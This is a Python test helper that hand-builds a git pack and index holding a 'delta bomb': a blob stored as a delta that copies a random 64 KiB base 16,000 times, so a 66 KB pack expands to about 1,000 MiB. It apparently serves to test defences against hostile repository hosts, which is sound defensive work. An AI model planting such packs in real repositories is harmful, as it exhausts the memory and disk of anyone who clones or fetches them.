"""A delta bomb, written by hand as a hostile hub writer can: a pack whose blob is a delta copying
a 64 KiB base `copies` times (16,000: a 1,000 MiB blob in a 66 KB pack), with the pack's index
written here too, so that nothing on the test's side ever resolves the delta."""

from __future__ import annotations

import hashlib
import os
import struct
import zlib
from pathlib import Path

BASE_SIZE = 64 * 1024
_BLOB, _TREE, _COMMIT, _REF_DELTA = 3, 2, 1, 7


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _header(kind: int, size: int) -> bytes:
    out = bytearray([(kind << 4) | (size & 0x0F) | (0x80 if size >> 4 else 0)])
    size >>= 4
    while size:
        out.append((size & 0x7F) | (0x80 if size >> 7 else 0))
        size >>= 7
    return bytes(out)


def _oid(kind: str, data: bytes) -> bytes:
    return hashlib.sha1(f"{kind} {len(data)}\0".encode() + data).digest()


def _bomb_oid(base: bytes, copies: int) -> bytes:
    digest = hashlib.sha1(f"blob {len(base) * copies}\0".encode())
    for _ in range(copies):
        digest.update(base)
    return digest.digest()


def write_bomb(hub: Path, ref: str, copies: int = 16_000, name: str = "bomb.bin") -> str:
    """A commit on `ref` of the bare repository `hub` whose tree holds `name`, a blob of
    `copies` x 64 KiB stored as one delta against `base.bin`, a 64 KiB blob, plus `notes.md`.
    Returns the bomb blob's id."""
    base = os.urandom(BASE_SIZE)
    base_oid = _oid("blob", base)
    bomb_oid = _bomb_oid(base, copies)
    delta = _varint(BASE_SIZE) + _varint(BASE_SIZE * copies) + b"\x80" * copies  # copy 0x10000 from 0
    notes = b"an ordinary note\n"
    notes_oid = _oid("blob", notes)
    # the base is in the tree too, so that a server sends the delta as it is (a thin pack's base is the client's)
    entries = sorted([(b"base.bin", base_oid), (name.encode(), bomb_oid), (b"notes.md", notes_oid)])
    tree = b"".join(b"100644 " + n + b"\0" + oid for n, oid in entries)
    tree_oid = _oid("tree", tree)
    who = b"someone <someone@hub> 1700000000 +0000"
    commit = b"tree " + tree_oid.hex().encode() + b"\nauthor " + who + b"\ncommitter " + who + b"\n\na bomb\n"
    commit_oid = _oid("commit", commit)
    objects = [(base_oid, _header(_BLOB, len(base)) + zlib.compress(base)),
               (bomb_oid, _header(_REF_DELTA, len(delta)) + base_oid + zlib.compress(delta, 9)),
               (notes_oid, _header(_BLOB, len(notes)) + zlib.compress(notes)),
               (tree_oid, _header(_TREE, len(tree)) + zlib.compress(tree)),
               (commit_oid, _header(_COMMIT, len(commit)) + zlib.compress(commit))]
    pack = bytearray(b"PACK" + struct.pack(">II", 2, len(objects)))
    placed = []
    for oid, packed in objects:
        placed.append((oid, zlib.crc32(packed), len(pack)))
        pack += packed
    pack_sum = hashlib.sha1(pack).digest()
    pack += pack_sum
    placed.sort()
    index = bytearray(b"\377tOc" + struct.pack(">I", 2))
    for fan in range(256):
        index += struct.pack(">I", sum(1 for oid, _, _ in placed if oid[0] <= fan))
    index += b"".join(oid for oid, _, _ in placed)
    index += b"".join(struct.pack(">I", crc) for _, crc, _ in placed)
    index += b"".join(struct.pack(">I", offset) for _, _, offset in placed)
    index += pack_sum
    index += hashlib.sha1(index).digest()
    stem = hub / "objects" / "pack" / f"pack-{pack_sum.hex()}"
    stem.with_suffix(".pack").write_bytes(pack)
    stem.with_suffix(".idx").write_bytes(index)
    target = hub / ref
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(commit_oid.hex() + "\n")
    return bomb_oid.hex()
